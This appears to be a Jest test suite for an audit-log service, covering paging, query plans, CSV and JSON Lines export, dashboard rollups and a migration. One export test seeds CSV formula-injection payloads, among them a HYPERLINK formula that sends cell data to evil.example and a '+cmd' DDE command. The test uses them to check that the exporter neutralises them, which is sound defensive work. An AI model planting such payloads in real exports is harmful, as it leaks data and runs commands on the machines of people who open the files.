import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Module } from '@nestjs/common';
import { DataSource } from 'typeorm';
import type BetterSqlite3 from 'better-sqlite3';
import { PassThrough, Writable } from 'node:stream';
import { ACTIVE_GRANTS_COUNTER } from '../../server/src/audit/active-grants-counter';
import { CSV_COLUMNS } from '../../server/src/audit/audit-export';
import { AuditCursor, AuditEntry, AuditFilter } from '../../server/src/audit/audit-query';
import { AuditQueryService, EXPORT_PAGE_ROWS } from '../../server/src/audit/audit-query.service';
import { HOUR_MS, MINUTE_MS } from '../../server/src/audit/audit-rollup.entity';
import { AuditModule } from '../../server/src/audit/audit.module';
import { AuditRecord, AuditService } from '../../server/src/audit/audit.service';
import { DashboardService } from '../../server/src/audit/dashboard.service';
import { SettledHours } from '../../server/src/audit/settled-hours';
import { LATENCY_BOUNDS_MS, latencyBucket, percentileOf } from '../../server/src/audit/latency-histogram';
import { MIGRATIONS } from '../../server/src/database/migrations';
import { AuditQueriesAndRollups1795696639535 } from '../../server/src/database/migrations/1795696639535-audit-queries-and-rollups';
import { Transactions } from '../../server/src/database/transactions';
import { testEngine } from '../helpers/test-database';
import { createNestContext, NestContext } from './nest-context';

const DAY = 24 * HOUR_MS;

/** A row as the test writes it straight into audit_events (the query tests need chosen times). */
type Seed = Omit<AuditEntry, 'id' | 'detail' | 'toolArguments'> & { detail?: Record<string, unknown> | null };

function insertSeeds(db: BetterSqlite3.Database, seeds: Seed[]): AuditEntry[] {
  const insert = db.prepare(
    'INSERT INTO audit_events (at, type, outcome, user_id, client_id, upstream_slug, mcp_method, tool, status, duration_ms, ip, detail) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)',
  );
  return db.transaction(() =>
    seeds.map((s) => {
      const id = Number(
        insert.run(s.at, s.type, s.outcome, s.userId, s.clientId, s.upstreamSlug, s.mcpMethod, s.tool, s.status, s.durationMs, s.ip, s.detail ? JSON.stringify(s.detail) : null)
          .lastInsertRowid,
      );
      return { ...s, id, detail: s.detail ?? null, toolArguments: null };
    }),
  )();
}

/** The expected order: newest first by (at, id). */
const newestFirst = (a: AuditEntry, b: AuditEntry) => b.at - a.at || b.id - a.id;

function matches(e: AuditEntry, f: AuditFilter): boolean {
  return (
    (f.from === undefined || e.at >= f.from) &&
    (f.to === undefined || e.at <= f.to) &&
    (f.userId === undefined || e.userId === f.userId) &&
    (f.clientId === undefined || e.clientId === f.clientId) &&
    (f.upstream === undefined || e.upstreamSlug === f.upstream) &&
    (f.type === undefined || e.type === f.type) &&
    (f.outcome === undefined || e.outcome === f.outcome) &&
    (f.mcpMethod === undefined || e.mcpMethod === f.mcpMethod) &&
    (f.tool === undefined || e.tool === f.tool)
  );
}

/** Every page of a filter, followed by cursor. */
async function allPages(query: AuditQueryService, filter: AuditFilter, limit: number): Promise<{ ids: number[]; pages: number }> {
  const ids: number[] = [];
  let after: AuditCursor | null = null;
  let pages = 0;
  do {
    const page = await query.page(filter, after, limit);
    ids.push(...page.entries.map((e) => e.id));
    after = page.next;
    pages++;
  } while (after);
  return { ids, pages };
}

/** Records through AuditService with Date.now() fixed at `at` (the service stamps rows itself). */
function at<T>(time: number, fn: () => T): T {
  const spy = jest.spyOn(Date, 'now').mockReturnValue(time);
  try {
    return fn();
  } finally {
    spy.mockRestore();
  }
}

/** at() for a write that resolves later (its transaction waits its turn): the clock stays set until it has. */
async function atAsync(time: number, fn: () => Promise<unknown>): Promise<void> {
  const spy = jest.spyOn(Date, 'now').mockReturnValue(time);
  try {
    await fn();
  } finally {
    spy.mockRestore();
  }
}

/** A writable that keeps what it is given, reading slowly (a small buffer) so the writer must wait for 'drain'. */
function slowSink(): { sink: Writable; text: () => string; drains: () => number } {
  const chunks: Buffer[] = [];
  let drains = 0;
  const sink = new Writable({
    highWaterMark: 1024,
    write(chunk: Buffer, _enc, done) {
      chunks.push(chunk);
      setImmediate(done);
    },
  });
  sink.on('drain', () => drains++);
  return { sink, text: () => Buffer.concat(chunks).toString('utf8'), drains: () => drains };
}

/** A strict RFC 4180 reader (quoted fields, doubled quotes, CRLF records), to read the export back. */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let field = '';
  let record: string[] = [];
  let i = 0;
  let quoted = false;
  while (i < text.length) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i += 2;
        continue;
      }
      if (c === '"') quoted = false;
      else field += c;
      i++;
      continue;
    }
    if (c === '"' && field === '') quoted = true;
    else if (c === ',') {
      record.push(field);
      field = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      record.push(field);
      records.push(record);
      record = [];
      field = '';
      i++;
    } else if (c === '\n' || c === '\r') throw new Error(`bare line break at ${i}`);
    else field += c;
    i++;
  }
  if (field || record.length) throw new Error('last record not terminated by CRLF');
  return records;
}

// Its fixtures are written through the SQLite connection (hand-written `?` SQL, db.exec); the
// services read through Transactions.query on either engine. To port: seed through Tx.execute.
(testEngine() === 'sqlite' ? describe : describe.skip)('audit log queries, export and dashboard rollups (real SQLite file)', () => {
  let ctx: NestContext;
  let audit: AuditService;
  let query: AuditQueryService;
  let dashboard: DashboardService;
  let db: BetterSqlite3.Database;

  beforeAll(async () => {
    ctx = await createNestContext({ imports: [AuditModule] });
    audit = ctx.app.get(AuditService);
    query = ctx.app.get(AuditQueryService);
    dashboard = ctx.app.get(DashboardService);
    db = ctx.app.get(Transactions).db;
  });
  afterAll(async () => {
    await ctx.close();
    ctx.cleanup();
  });
  const clear = () => {
    db.exec('DELETE FROM audit_events; DELETE FROM audit_rollups; DELETE FROM audit_tool_rollups; DELETE FROM audit_counts;');
    // Rows of past hours went: the dashboard's kept sums of them go too (as after audit retention).
    ctx.app.get(SettledHours).forget();
  };

  describe('pages of the log', () => {
    const T0 = Date.UTC(2024, 0, 1);
    let seeded: AuditEntry[];

    beforeAll(() => {
      clear();
      const seeds: Seed[] = [];
      for (let i = 0; i < 240; i++) {
        const proxied = i % 4 !== 0;
        seeds.push({
          // Inserted out of time order, with runs of rows in the same millisecond.
          at: T0 + ((i * 7919) % 240) * 1000 + (i % 3 === 0 ? 0 : 1),
          type: proxied ? 'mcp.request' : i % 8 === 0 ? 'login' : 'token.issue',
          outcome: i % 5 === 0 ? 'failure' : 'success',
          userId: i % 6 === 5 ? null : `user-${i % 3}`,
          clientId: proxied ? `client-${i % 2}` : null,
          upstreamSlug: proxied ? (i % 3 === 0 ? 'notes' : 'files') : null,
          mcpMethod: proxied ? (i % 2 ? 'tools/call' : 'tools/list') : null,
          tool: proxied && i % 2 ? (i % 3 ? 'search' : 'read') : null,
          status: proxied ? 200 : null,
          durationMs: proxied ? i : null,
          ip: '127.0.0.1',
          detail: i % 10 === 0 ? { grant_id: `g${i}` } : null,
        });
      }
      seeded = insertSeeds(db, seeds);
    });

    const FILTERS: [string, AuditFilter][] = [
      ['none', {}],
      ['userId', { userId: 'user-1' }],
      ['clientId', { clientId: 'client-0' }],
      ['upstream', { upstream: 'notes' }],
      ['type', { type: 'login' }],
      ['outcome', { outcome: 'failure' }],
      ['mcpMethod', { mcpMethod: 'tools/call' }],
      ['tool', { tool: 'read' }],
      ['time range', { from: T0 + 30_000, to: T0 + 90_000 }],
      ['from only', { from: T0 + 200_000 }],
      ['to only', { to: T0 + 10_000 }],
      ['two filters and a time range', { type: 'mcp.request', userId: 'user-2', from: T0 + 60_000, to: T0 + 180_001 }],
    ];

    it.each(FILTERS)('filter %s: exactly the matching rows, newest first by (at, id), across pages', async (_name, filter) => {
      const expected = seeded
        .filter((e) => matches(e, filter))
        .sort(newestFirst)
        .map((e) => e.id);
      expect(expected.length).toBeGreaterThan(0);
      const { ids, pages } = await allPages(query, filter, 7);
      expect(ids).toEqual(expected);
      expect(pages).toBe(Math.max(1, Math.ceil(expected.length / 7)));
    });

    it('returns rows whole: every column, detail parsed', async () => {
      const withDetail = seeded.find((e) => e.detail)!;
      expect(await query.get(withDetail.id)).toEqual(withDetail);
      const { entries } = await query.page({ tool: 'search' }, null, 1);
      expect(entries[0]).toEqual(seeded.filter((e) => e.tool === 'search').sort(newestFirst)[0]);
      expect(await query.get(999_999)).toBeNull();
    });

    it('lists the event types present, sorted, by seeks on the type index (not a scan of the log)', async () => {
      expect(await query.eventTypes()).toEqual(['login', 'mcp.request', 'token.issue']);
      const prepare = db.prepare.bind(db);
      const prepared: string[] = [];
      const spy = jest.spyOn(db, 'prepare').mockImplementation((sql: string) => {
        prepared.push(sql);
        return prepare(sql);
      });
      try {
        ctx.app.get<Transactions, { statements: Map<string, unknown> }>(Transactions).statements.clear();
        await query.eventTypes();
      } finally {
        spy.mockRestore();
      }
      const plan = (prepare(`EXPLAIN QUERY PLAN ${prepared[0]}`).all() as { detail: string }[]).map((r) => r.detail);
      const typeSeeks = plan.filter((d) => /^SEARCH audit_events USING COVERING INDEX \S+ \(type>\?\)$/.test(d));
      expect({ plan, typeSeeks: typeSeeks.length }).toEqual({ plan, typeSeeks: 1 });
      // The only other read of the log: "is there any mcp.request row", which stops at the first.
      expect(plan.filter((d) => d.startsWith('SCAN audit_events'))).toHaveLength(1);
      // Without any proxied-request row, the type is not listed.
      db.exec("UPDATE audit_events SET type = 'proxied' WHERE type = 'mcp.request'");
      try {
        expect(await query.eventTypes()).toEqual(['login', 'proxied', 'token.issue']);
      } finally {
        db.exec("UPDATE audit_events SET type = 'mcp.request' WHERE type = 'proxied'");
      }
    });

    it('a cursor is stable while rows are added: no row repeated or skipped, new rows stay out of later pages', async () => {
      const expected = seeded.sort(newestFirst).map((e) => e.id);
      const first = await query.page({}, null, 50);
      // Rows arrive meanwhile: newer ones, and one in the very millisecond of the page's last row.
      const last = first.entries[first.entries.length - 1];
      const added = insertSeeds(db, [
        { ...seeded[0], at: T0 + 10 * DAY, detail: null },
        { ...seeded[0], at: last.at, detail: null },
      ]);
      const rest: number[] = [];
      let after = first.next;
      while (after) {
        const page = await query.page({}, after, 50);
        rest.push(...page.entries.map((e) => e.id));
        after = page.next;
      }
      const seen = [...first.entries.map((e) => e.id), ...rest];
      // The row added in the last row's millisecond has a higher id, so it sorts before it: on page 1's side.
      expect(seen).toEqual(expected);
      expect(seen).not.toContain(added[0].id);
      expect(seen).not.toContain(added[1].id);
      db.prepare('DELETE FROM audit_events WHERE id IN (?, ?)').run(added[0].id, added[1].id);
    });

    it('rows of one millisecond split over pages are neither repeated nor skipped', async () => {
      const same = insertSeeds(
        db,
        Array.from({ length: 10 }, () => ({ ...seeded[0], at: T0 - 5000, type: 'burst', detail: null })),
      );
      const { ids } = await allPages(query, { type: 'burst' }, 3);
      expect(ids).toEqual(same.map((e) => e.id).reverse());
      db.prepare("DELETE FROM audit_events WHERE type = 'burst'").run();
    });

    it('every single filter (and the time range) is one index range scan in (at, id) order: no table scan, no sort', async () => {
      const prepared: string[] = [];
      const prepare = db.prepare.bind(db);
      const spy = jest.spyOn(db, 'prepare').mockImplementation((sql: string) => {
        prepared.push(sql);
        return prepare(sql);
      });
      /** The index of audit_events on `columns` (and with `where`, for a partial one). */
      const indexes = prepare("SELECT name, sql FROM sqlite_master WHERE type = 'index' AND tbl_name = 'audit_events' AND sql IS NOT NULL").all() as {
        name: string;
        sql: string;
      }[];
      const index = (columns: string, where = '') => {
        const found = indexes.find((i) => i.sql.trimEnd().endsWith(`ON "audit_events" ${columns}${where ? ` WHERE ${where}` : ''}`));
        if (!found) throw new Error(`no index on ${columns} ${where}`);
        return found.name;
      };
      const byAt = index('("at")');
      const cursor = { at: T0 + 100_000, id: 100 };
      const probes: [AuditFilter, string][] = [
        [{ userId: 'u' }, index('("user_id", "at")', '"user_id" IS NOT NULL')],
        [{ clientId: 'c' }, index('("client_id", "at")', '"client_id" IS NOT NULL')],
        [{ upstream: 'notes' }, index('("upstream_slug", "at")', '"upstream_slug" IS NOT NULL')],
        [{ type: 'login' }, index('("type", "at")', `"type" != 'mcp.request'`)],
        [{ outcome: 'failure' }, index('("at")', `"outcome" = 'failure'`)],
        [{ mcpMethod: 'tools/call' }, index('("mcp_method", "at")', '"mcp_method" IS NOT NULL')],
        [{ tool: 'search' }, index('("tool", "at")', '"tool" IS NOT NULL')],
        [{ from: T0, to: T0 + 1000 }, byAt],
        [{}, byAt],
        // The bulk of the log (proxied requests, successes) is not in the partial indexes: walking `at` finds it at once.
        [{ type: 'mcp.request' }, byAt],
        [{ outcome: 'success' }, byAt],
      ];
      try {
        for (const [filter, name] of probes) {
          for (const after of [null, cursor]) {
            prepared.length = 0;
            // A filter+cursor combination this service has not prepared yet is prepared now; otherwise rebuild it the same way.
            ctx.app.get<Transactions, { statements: Map<string, unknown> }>(Transactions).statements.clear();
            await query.page(filter, after, 10);
            const sql = prepared.find((s) => s.includes('ORDER BY at DESC, id DESC'))!;
            const params = new Array<number>((sql.match(/\?/g) ?? []).length).fill(0);
            const plan = (prepare(`EXPLAIN QUERY PLAN ${sql}`).all(...params) as { detail: string }[]).map((r) => r.detail).join(' | ');
            expect({ filter, after, plan }).toEqual({ filter, after, plan: expect.stringMatching(new RegExp(`^(SEARCH|SCAN) audit_events USING INDEX ${name}( \\(|$)`)) });
            expect(plan).not.toContain('TEMP B-TREE');
          }
        }
      } finally {
        spy.mockRestore();
      }
    });

    describe('export', () => {
      const emails = (ids: string[]) => Promise.resolve(new Map(ids.filter((id) => id !== 'user-2').map((id) => [id, `${id}@example.test`])));

      it('CSV: a header record, CRLF records per RFC 4180, the filtered rows newest first, with user emails', async () => {
        const { sink, text } = slowSink();
        const n = await query.exportTo(sink, { upstream: 'files' }, 'csv', emails);
        await new Promise((r) => sink.once('finish', r));
        const expected = seeded.filter((e) => e.upstreamSlug === 'files').sort(newestFirst);
        expect(n).toBe(expected.length);
        const records = parseCsv(text());
        expect(records[0]).toEqual([...CSV_COLUMNS]);
        expect(records.slice(1).map((r) => Number(r[0]))).toEqual(expected.map((e) => e.id));
        const byId = new Map(records.slice(1).map((r) => [Number(r[0]), Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, r[i]]))]));
        const sample = expected.find((e) => e.userId === 'user-1')!;
        expect(byId.get(sample.id)).toMatchObject({
          at: String(sample.at),
          time: new Date(sample.at).toISOString(),
          user_id: 'user-1',
          user_email: 'user-1@example.test',
          upstream_slug: 'files',
          duration_ms: String(sample.durationMs),
        });
        expect(byId.get(expected.find((e) => e.userId === 'user-2')!.id)!.user_email).toBe('');
      });

      it('CSV: quotes, commas and line breaks are quoted; cells starting with = + - @ or a tab are neutralised with a leading quote', async () => {
        clearExportProbe();
        const hostile = insertSeeds(db, [
          {
            ...seeded[0],
            at: T0 - 1000,
            type: 'export.probe',
            userId: '=HYPERLINK("https://evil.example/?"&A1,"click")',
            clientId: '+cmd|" /C calc"!A0',
            upstreamSlug: '-2+3',
            mcpMethod: '@SUM(1+1)',
            tool: '\tleading tab',
            ip: 'a, "quoted" and\r\nbroken',
            detail: { email: '=1+1', note: 'line\nbreak' },
          },
        ]);
        const { sink, text } = slowSink();
        await query.exportTo(sink, { type: 'export.probe' }, 'csv');
        await new Promise((r) => sink.once('finish', r));
        const [, record] = parseCsv(text());
        const row = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, record[i]]));
        expect(row).toMatchObject({
          id: String(hostile[0].id),
          user_id: `'=HYPERLINK("https://evil.example/?"&A1,"click")`,
          client_id: `'+cmd|" /C calc"!A0`,
          upstream_slug: "'-2+3",
          mcp_method: "'@SUM(1+1)",
          tool: "'\tleading tab",
          ip: 'a, "quoted" and\r\nbroken',
          detail: JSON.stringify({ email: '=1+1', note: 'line\nbreak' }),
        });
        // On the wire: the quoted field, its quotes doubled.
        expect(text()).toContain(`"'=HYPERLINK(""https://evil.example/?""&A1,""click"")"`);
        clearExportProbe();
      });
      const clearExportProbe = () => db.prepare("DELETE FROM audit_events WHERE type = 'export.probe'").run();

      it('JSON Lines: one object per line in the API shape, the filtered rows newest first', async () => {
        const { sink, text } = slowSink();
        const n = await query.exportTo(sink, { outcome: 'failure', from: T0 + 50_000 }, 'jsonl', emails);
        await new Promise((r) => sink.once('finish', r));
        const expected = seeded.filter((e) => e.outcome === 'failure' && e.at >= T0 + 50_000).sort(newestFirst);
        expect(n).toBe(expected.length);
        const lines = text().split('\n');
        expect(lines.pop()).toBe('');
        const rows = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
        expect(rows.map((r) => r.id)).toEqual(expected.map((e) => e.id));
        const { userId, ...rest } = expected[0];
        expect(rows[0]).toEqual({ ...rest, user: userId === null ? null : { id: userId, email: userId === 'user-2' ? null : `${userId}@example.test` } });
      });

      it.each([
        ['two pages and a part', EXPORT_PAGE_ROWS * 2 + 17],
        // The last query then finds nothing: the end must not wait for a 'drain' that already came.
        ['exactly two pages', EXPORT_PAGE_ROWS * 2],
      ])('pages through more rows than one query reads (%s), waiting for drain, and stops when the reader goes away', async (_name, count) => {
        clear();
        const many = insertSeeds(
          db,
          Array.from({ length: count }, (_, i) => ({ ...seeded[1], at: T0 + i, detail: null })),
        );
        const slow = slowSink();
        expect(await query.exportTo(slow.sink, {}, 'jsonl')).toBe(many.length);
        await new Promise((r) => slow.sink.once('finish', r));
        expect(
          slow
            .text()
            .trimEnd()
            .split('\n')
            .map((l) => (JSON.parse(l) as { id: number }).id),
        ).toEqual(many.map((e) => e.id).reverse());
        expect(slow.drains()).toBeGreaterThan(0);

        // A client that disconnects after the first chunk: the export ends there, without an error.
        const gone = new PassThrough({ highWaterMark: 16 });
        gone.once('data', () => gone.destroy());
        const written = await query.exportTo(gone, {}, 'csv');
        expect(written).toBeLessThan(many.length);
        expect(gone.destroyed).toBe(true);
      });
    });
  });

  describe('dashboard rollups', () => {
    const NOW = Date.UTC(2030, 5, 10, 12, 30, 15);
    const record = (time: number, e: Partial<AuditRecord>) =>
      at(time, () => audit.record({ type: 'mcp.request', outcome: 'success', upstreamSlug: 'notes', mcpMethod: 'tools/call', ...e }));

    beforeEach(clear);

    it('record() then flush writes the per-minute and per-hour rollups with the rows, in the same transaction', async () => {
      record(NOW - 1000, { tool: 'search', durationMs: 12 });
      record(NOW - 2000, { tool: 'search', durationMs: 40, outcome: 'failure' });
      record(NOW - 3000, { mcpMethod: 'tools/list', durationMs: 3 });
      await audit.flush();
      const minute = NOW - (NOW % MINUTE_MS);
      const hour = NOW - (NOW % HOUR_MS);
      expect(db.prepare('SELECT bucket_ms, start_at, upstream_slug, requests, errors, ms_le_3, ms_le_15, ms_le_50 FROM audit_rollups ORDER BY bucket_ms').all()).toEqual([
        { bucket_ms: MINUTE_MS, start_at: minute, upstream_slug: 'notes', requests: 3, errors: 1, ms_le_3: 1, ms_le_15: 1, ms_le_50: 1 },
        { bucket_ms: HOUR_MS, start_at: hour, upstream_slug: 'notes', requests: 3, errors: 1, ms_le_3: 1, ms_le_15: 1, ms_le_50: 1 },
      ]);
      expect(db.prepare('SELECT bucket_ms, start_at, upstream_slug, tool, calls, errors FROM audit_tool_rollups ORDER BY bucket_ms').all()).toEqual([
        { bucket_ms: MINUTE_MS, start_at: minute, upstream_slug: 'notes', tool: 'search', calls: 2, errors: 1 },
        { bucket_ms: HOUR_MS, start_at: hour, upstream_slug: 'notes', tool: 'search', calls: 2, errors: 1 },
      ]);
      expect(db.prepare('SELECT type, outcome, count FROM audit_counts ORDER BY outcome').all()).toEqual([
        { type: 'mcp.request', outcome: 'failure', count: 1 },
        { type: 'mcp.request', outcome: 'success', count: 2 },
      ]);

      // Same transaction: when the rollup write fails, the batch's audit rows are not written either.
      db.exec("CREATE TEMP TRIGGER fail_rollup BEFORE INSERT ON audit_rollups BEGIN SELECT RAISE(ABORT, 'rollup write failed'); END");
      try {
        record(NOW, { tool: 'search', durationMs: 5, detail: { probe: 'same-tx' } });
        await audit.flush();
      } finally {
        db.exec('DROP TRIGGER fail_rollup');
      }
      expect(db.prepare("SELECT COUNT(*) AS n FROM audit_events WHERE detail LIKE '%same-tx%'").get()).toEqual({ n: 0 });
    });

    it('p50/p95 from the summed histograms stay in the bucket of the exact percentile, within 10 % on smooth data', async () => {
      // A skewed, known set: 2,000 durations from 1 ms to about 3 s, spread over two hours and two upstreams' minutes.
      const durations = Array.from({ length: 2000 }, (_, i) => Math.round(Math.exp((i * 8) / 2000)));
      durations.forEach((d, i) => record(NOW - (i % 120) * MINUTE_MS, { tool: 'search', durationMs: d }));
      await audit.flush();
      const sorted = [...durations].sort((a, b) => a - b);
      const exact = (p: number) => sorted[Math.ceil((p / 100) * sorted.length) - 1];
      const [notes] = await dashboard.traffic('24h', NOW);
      expect(notes.requests).toBe(2000);
      for (const [p, estimate] of [
        [50, notes.p50Ms!],
        [95, notes.p95Ms!],
      ]) {
        expect(latencyBucket(Math.round(estimate))).toBe(latencyBucket(exact(p)));
        expect(Math.abs(estimate - exact(p)) / exact(p)).toBeLessThan(0.1);
      }
      // The same for percentileOf on a hand-made histogram: 10 values at 1 ms, 10 between 7 and 10 ms.
      const counts = new Array<number>(LATENCY_BOUNDS_MS.length + 1).fill(0);
      counts[latencyBucket(1)] = 10;
      counts[latencyBucket(10)] = 10;
      expect(percentileOf(counts, 50)).toBe(1);
      expect(percentileOf(counts, 100)).toBe(10);
      expect(percentileOf(counts, 75)).toBeCloseTo(8.5);
      expect(percentileOf(new Array<number>(counts.length).fill(0), 50)).toBeNull();
    });

    it('standalone GET streams and gateway refusals count as requests but not as latency', async () => {
      record(NOW - 1000, { mcpMethod: 'GET', durationMs: 600_000 });
      record(NOW - 1000, { type: 'rate.limit', outcome: 'failure', durationMs: 0 });
      record(NOW - 1000, { durationMs: 20 });
      await audit.flush();
      const [notes] = await dashboard.traffic('24h', NOW);
      expect(notes).toMatchObject({ requests: 3, errors: 1, p50Ms: 20, p95Ms: 20 });
    });

    it('the dashboard: per upstream, hourly series, top tools, failed sign-ins, over 24 h or 7 d in whole hours', async () => {
      const from24h = NOW - 24 * HOUR_MS;
      const firstHour = from24h - (from24h % HOUR_MS);
      record(NOW - 5 * MINUTE_MS, { tool: 'search', durationMs: 10 });
      record(NOW - 5 * MINUTE_MS, { tool: 'search', durationMs: 10, outcome: 'failure' });
      record(NOW - 3 * HOUR_MS, { tool: 'read', durationMs: 100 });
      record(NOW - 3 * HOUR_MS, { upstreamSlug: 'files', tool: 'read', durationMs: 30 });
      // The first hour of the range counts whole: 1 minute after 24 h ago, 2 minutes before it (same hour),
      // and not the last minute of the hour before.
      record(from24h + MINUTE_MS, { upstreamSlug: 'files', tool: 'list', durationMs: 1 });
      record(from24h - 2 * MINUTE_MS, { upstreamSlug: 'files', tool: 'list', durationMs: 1 });
      record(firstHour - MINUTE_MS, { upstreamSlug: 'files', tool: 'list', durationMs: 1 });
      record(NOW - 3 * DAY, { upstreamSlug: 'old', tool: 'read', durationMs: 1 });
      await audit.flush();
      await atAsync(NOW - 10 * MINUTE_MS, () => audit.recordNow({ type: 'login', outcome: 'failure', detail: { email: 'x@example.test' } }));
      await atAsync(firstHour + 1000, () => audit.recordNow({ type: 'login', outcome: 'failure' }));
      await atAsync(firstHour - 1000, () => audit.recordNow({ type: 'login', outcome: 'failure' }));
      await atAsync(NOW - 2 * DAY, () => audit.recordNow({ type: 'login', outcome: 'failure' }));
      await atAsync(NOW - 2 * DAY, () => audit.recordNow({ type: 'login', outcome: 'success', userId: 'u1' }));

      const registered = [
        { slug: 'files', name: 'Files' },
        { slug: 'quiet', name: 'Quiet one' },
      ];
      const day = await dashboard.figures('24h', registered, NOW);
      expect(day.from).toBe(firstHour);
      expect(day.to).toBe(NOW);
      expect(day.perUpstream.map(({ slug, name, requests, errors, p50Ms }) => ({ slug, name, requests, errors, p50Ms }))).toEqual([
        { slug: 'files', name: 'Files', requests: 3, errors: 0, p50Ms: 1 },
        { slug: 'notes', name: 'notes', requests: 3, errors: 1, p50Ms: 10 },
        { slug: 'quiet', name: 'Quiet one', requests: 0, errors: 0, p50Ms: null },
      ]);
      expect(day.perUpstream[2].series).toHaveLength(25);
      expect(day.series).toHaveLength(25);
      expect(day.series[0].t).toBe(firstHour);
      expect(day.series.reduce((n, p) => n + p.requests, 0)).toBe(6);
      expect(day.series[0]).toMatchObject({ requests: 2, errors: 0 });
      expect(day.series[24]).toMatchObject({ t: NOW - (NOW % HOUR_MS), requests: 2, errors: 1 });
      const notes = day.perUpstream[1];
      expect(notes.series.find((p) => p.t === NOW - (NOW % HOUR_MS) - 3 * HOUR_MS)).toMatchObject({ requests: 1 });
      expect(notes.series.map((p) => p.t)).toEqual(day.series.map((p) => p.t));
      expect(day.topTools).toEqual([
        { upstream: 'files', tool: 'list', calls: 2 },
        { upstream: 'notes', tool: 'search', calls: 2 },
        { upstream: 'files', tool: 'read', calls: 1 },
        { upstream: 'notes', tool: 'read', calls: 1 },
      ]);
      expect(day.failedSignIns).toBe(2);
      expect(day.activeUsers).toBeNull();
      expect(day.activeGrants).toBeNull();

      const week = await dashboard.figures('7d', [], NOW);
      expect(week.series).toHaveLength(7 * 24 + 1);
      expect(week.perUpstream.map((u) => [u.slug, u.requests])).toEqual([
        ['files', 4],
        ['notes', 3],
        ['old', 1],
      ]);
      expect(week.failedSignIns).toBe(4);
    });

    it('active users and grants come from an ACTIVE_GRANTS_COUNTER provided by another module', async () => {
      @Module({ providers: [{ provide: ACTIVE_GRANTS_COUNTER, useValue: { countActiveGrants: () => Promise.resolve({ grants: 7, users: 3 }) } }] })
      class FakeGrantsModule {}
      const other = await createNestContext({ imports: [AuditModule, FakeGrantsModule] });
      try {
        const figures = await other.app.get(DashboardService).figures('24h');
        expect({ activeUsers: figures.activeUsers, activeGrants: figures.activeGrants }).toEqual({ activeUsers: 3, activeGrants: 7 });
      } finally {
        await other.close();
        other.cleanup();
      }
    });

    it('retention deletes rollups and counts of the time it deletes rows of', async () => {
      const retention = ctx.config.audit.retention_days * DAY;
      record(NOW - retention - 2 * HOUR_MS, { tool: 'read', durationMs: 1 });
      record(NOW - 1000, { tool: 'read', durationMs: 1 });
      await audit.flush();
      await audit.applyRetention(NOW);
      for (const table of ['audit_rollups', 'audit_tool_rollups']) {
        expect(db.prepare(`SELECT bucket_ms, COUNT(*) AS n FROM ${table} GROUP BY bucket_ms ORDER BY bucket_ms`).all()).toEqual([
          { bucket_ms: MINUTE_MS, n: 1 },
          { bucket_ms: HOUR_MS, n: 1 },
        ]);
      }
      expect(db.prepare('SELECT SUM(count) AS n FROM audit_counts').get()).toEqual({ n: 1 });
    });
  });

  it('the migration goes down and up again on a log with rows: they keep their columns, tool comes back empty', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'gatehouse-migration-'));
    const ds = new DataSource({ type: 'better-sqlite3', database: join(dir, 'm.db'), migrations: MIGRATIONS });
    try {
      await ds.initialize();
      await ds.runMigrations();
      await ds.query("INSERT INTO audit_events (at, type, outcome, user_id, tool) VALUES (1, 'mcp.request', 'success', 'u1', 'search')");
      const migration = new AuditQueriesAndRollups1795696639535();
      const runner = ds.createQueryRunner();
      await migration.down(runner);
      expect(await ds.query("SELECT name FROM pragma_table_info('audit_events') WHERE name = 'tool'")).toEqual([]);
      expect(await ds.query("SELECT name FROM sqlite_master WHERE name LIKE 'audit_%rollups' OR name = 'audit_counts'")).toEqual([]);
      await migration.up(runner);
      await runner.release();
      expect(await ds.query('SELECT type, user_id, tool FROM audit_events')).toEqual([{ type: 'mcp.request', user_id: 'u1', tool: null }]);
    } finally {
      await ds.destroy();
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
